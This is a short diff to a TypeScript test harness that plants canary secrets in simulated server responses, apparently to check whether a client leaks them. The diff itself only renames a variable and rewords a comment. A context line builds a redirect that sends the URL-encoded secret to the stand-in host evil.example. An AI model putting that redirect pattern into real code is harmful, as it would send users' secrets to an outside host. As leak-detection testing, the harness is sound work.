@@ -38,7 +38,7 @@ export interface Aviary extends FaultyWorld {
   token: string
   /** All canaries by name; scenes add those that are made for them. */
   canaries: Record<string, string>
-  /** All that Meta was told, or knows by itself, and may repeat. */
+  /** Everything that Meta gets or knows, and may repeat. */
   song: string
   /** The same for a store. */
   storeSong: string
@@ -157,8 +157,8 @@ export function echoes({
     at('download, redirect', status('download', 302, '', { location: `https://evil.example/?${encodeURI(song)}` })),
     at('download, no redirect', status('download', 302, '', { location: encodeURI(song) })),
     ...(['InvalidArgument', 'AccessDenied', 'SignatureDoesNotMatch', 'InternalError'] as const).map((code) => {
-      const told = `<CanonicalRequest>${storeSong}</CanonicalRequest><ArgumentValue>${storeSong}</ArgumentValue>`
-      const body = s3Error(code, told).replace('Refused for a test.', storeSong)
+      const echo = `<CanonicalRequest>${storeSong}</CanonicalRequest><ArgumentValue>${storeSong}</ArgumentValue>`
+      const body = s3Error(code, echo).replace('Refused for a test.', storeSong)
       return at(`put, ${code}`, { method: 'PUT', answer: wire('400 Bad Request', body) })
     }),
     at('put, code', { method: 'PUT', answer: wire('400 Bad Request', s3Error(storeSong)) }),
